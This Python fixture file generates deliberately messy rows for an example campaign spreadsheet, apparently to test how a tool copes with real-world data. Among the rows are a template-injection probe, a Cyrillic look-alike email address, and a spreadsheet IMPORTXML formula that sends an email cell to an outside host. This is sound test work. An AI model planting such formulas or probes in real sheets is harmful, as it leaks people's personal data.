"""The rows of the example workbook: one spring of a campaign, with all that people do to a sheet.

All times are counted from the day the workbook is built, so that it is spring on any day. Every
address is one that nobody can have (RFC 2606), but for the misspelt one, which nobody writes to.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import Any

PEOPLE_HEADERS = (
    "First name",
    "Last name",
    "E-mail address ",  # renamed, with a space behind: recipes still call it Email
    "Phone",
    "Postcode",
    "Region",
    "Language",
    "Source",
    "Signed up at",
    "Email OK?",
    "Stage",
    "Owner",
    "Next step",
    "Next step due",
    "Notes",
    "Days here",
)
TEAM_HEADERS = ("Name", "Email", "Regions", "Languages", "Max open", "Away until", "Time zone")
GROUPS_HEADERS = (
    "Group",
    "Lead",
    "Lead email",
    "Coach",
    "Next coaching",
    "Time zone",
    "Last coaching",
    "Coaching link",
    "Notes",
)

COPIED_ID = "sf-C4PY2D"
"""The id of a row that somebody copied, id and all."""


@dataclass(frozen=True)
class Signup:
    """One row of People. `days` ago they signed up; `signed_up` instead is typed as it stands."""

    first: object
    last: object = None
    email: object = None
    region: object = "North"
    language: object = "English"
    ok: object = "Yes"
    days: int = 1
    signed_up: object = None
    phone: object = None
    postcode: object = None
    source: object = "Web form"
    stage: object = None
    owner: object = None
    notes: object = None
    id: str | None = None
    hidden: bool = False

    def cells(self, today: date) -> tuple[Any, ...]:
        """The row as it stands under PEOPLE_HEADERS, but for the formula of the last column."""
        at = self.signed_up or datetime.combine(today - timedelta(days=self.days), time(18, 40))
        return (
            *(self.first, self.last, self.email, self.phone, self.postcode, self.region),
            *(self.language, self.source, at, self.ok, self.stage, self.owner),
            *(None, None, self.notes),
        )


@dataclass(frozen=True)
class Note:
    """A line that is nobody's: a separator, a total, or nothing at all."""

    text: str | None = None
    total: str | None = None


def signups(today: date) -> Iterator[Signup | Note]:
    """People, from the top: thirty rows that are somebody, and some that are not."""
    yield Signup("Ana", "Ruiz", "ana.ruiz@example.org", language="Spanish", phone="(617) 555-0101")
    yield Signup("Bo", "Kim", "bo.kim\u200b@example.org ", phone=6175550102, postcode=2138)
    yield Signup("Cara", "Nowak", "cara@example.org; cara.n@example.com", phone="617.555.0103")
    yield Signup("Dev", "Patel", "dev.patel@gmial.com", "South", source="Market stall")
    yield Signup("Erin", "O'Brien", None, "South", phone="617-555-0105", source="Market stall")
    yield Signup("Farid", "Haddad", "haddad.family@example.org", "East", notes="Comes with Dina")
    yield Signup("Dina", "Haddad", "haddad.family@example.org", "East", "Arabic")
    yield Signup("ليلى", "منصور", "layla@example.org", "East", "Arabic", phone="٦١٧٥٥٥٠١٠٨")
    yield Note("— from the market stall —")
    yield Signup("MARÍA DEL CARMEN", "LÓPEZ", "MC.LOPEZ@EXAMPLE.ORG", "South", "Spanish")
    yield Signup("Sunny 🌻", "Okafor", "sunny@example.org", "North", source="Market stall")
    yield Signup("{{ 7*7 }}", "Sharp", "sharp@example.org", "North", notes="{{ person.email }}")
    yield Signup('=IMPORTXML("https://example.net/?q="&C2,"//a")', "Formula", "f@example.org")
    yield Signup(
        "Wolfeschlegelsteinhausenbergerdorff-Montgomery", "Lee", "w.lee@example.org", "West"
    )
    yield Note()
    yield Signup("ana", "RUIZ", " Ana.Ruiz@Example.org", language="Spanish", source="Market stall")
    yield Signup("Jo", "Berg", "Jo Berg <jo.berg@example.org>", "South", id=COPIED_ID)
    yield Signup("Jo", "Berg", "Jo Berg <jo.berg@example.org>", "South", id=COPIED_ID)
    yield Signup("Kit", "Moss", "kit.moss@exаmple.org", notes="the a is Cyrillic")
    yield Signup("Lou", "Tran", "mailto:lou.tran@example.org", "#REF!")
    yield Signup("Mo", "Saleh", "mo.saleh@example.org", "East", signed_up=f"3/4/{today.year}")
    yield Signup("Nia", "Grant", "nia@example.org", "South", signed_up=_typed(today))
    yield Signup("Oz", "Demir", "oz@example.org", "South", ok="no")
    yield Signup("Pia", "Lund", "pia@example.org", "West", ok=None)
    yield Note("— before the spring —")
    yield Signup("Quinn", "Ash", "quinn@example.org", ok="Yes!!", days=2)
    yield Signup("Rae", "Stone", "rae@example.org", "South", ok="✓", owner="Lee Park", days=3)
    yield Signup("Sol", "Vega", "sol@example.org", "Islands", "Spanish", ok="x", days=3)
    yield Signup("Tess", "Young", "tess@example.org", None, ok=True, days=4)
    yield Signup(
        "Uma", "Rao", "uma@example.org", "West", stage="Prospect", owner="Tomás Gil", hidden=True
    )
    yield Signup("Vic", "Diaz", "vic@example.org", "North", days=400, stage="Member", hidden=True)
    yield Signup("Wes", "Hall", "wes@example.org", "West", days=6, stage="Prospect", owner="Sam")
    yield Signup("Xan", "Cole", "xan@example.org", "South", days=35, stage="Prospect")
    yield Note("Total", total="=COUNTA(C4:C{last})")


def _typed(today: date) -> str:
    """A moment as somebody types it, day first: 4 March 2026 7pm."""
    day = today - timedelta(days=2)
    months = "January February March April May June July August September October November December"
    return f"{day.day} {months.split()[day.month - 1]} {day.year} 7pm"


def team(today: date) -> Iterator[tuple[Any, ...]]:
    """Team: who can take how many, who is away, and one cell that only a person can read."""
    away = today + timedelta(days=12)
    back = today - timedelta(days=3)
    here = "America/New_York"
    yield "Lee Park", "lee.park@example.org", "North, South", "English", 10, None, here
    yield "Maya Ortiz", "maya.ortiz@example.org", "North; South", "English, Spanish", 7, back, here
    yield "Nour Aziz", "nour.aziz@example.org", "East", "English, Arabic", None, None, here
    yield "Priya Shah", "priya.shah@example.org", "East, West", "English", 5, away, here
    yield "Tomás Gil", "tomas.gil@example.org", "West", "Spanish", 1, None, "America/Chicago"
    yield "Kim Ode", "kim.ode@example.org", "North", "English", "a few", None, here


def groups(today: date) -> Iterator[tuple[Any, ...]]:
    """Groups: who leads, who coaches them, and when they speak next."""
    here, west = "America/New_York", "America/Los_Angeles"
    last = today - timedelta(days=12)

    def at(days: int, hour: int, minute: int = 0) -> datetime:
        return datetime.combine(today + timedelta(days=days), time(hour, minute))

    a_day = today + timedelta(days=8)

    yield "Riverside", "Ines Vidal", "ines@example.org", "Lee Park", at(3, 18, 30), here, last
    yield "Hill End", "Omar Said", "omar@example.org", "Maya Ortiz", at(4, 19), None, last
    yield "Harbour", "Jun Tanaka", "jun@example.org", "lee park ", at(5, 20), west, last
    yield "Old Town", "Rosa Marín", "rosa@example.org", "Nour Aziz", at(-2, 18), here, last
    yield "Station", "Ed Frost", "ed@example.org, e@example.com", "Lee Park", at(6, 18), here, last
    yield "Meadow", "Sue Bell", "sue@example.org", "Bob", at(6, 19), here, last
    yield "Quarry", "Tariq Aziz", "tariq@example.org", "Nour Aziz", a_day, here, last
    yield "Park Row", "Vera Holm", "vera@example.org", None, at(9, 18), here, None
    yield "Mill Lane", "Zoë Hart", "zoe@example.org", "Tomás Gil", None, here, last
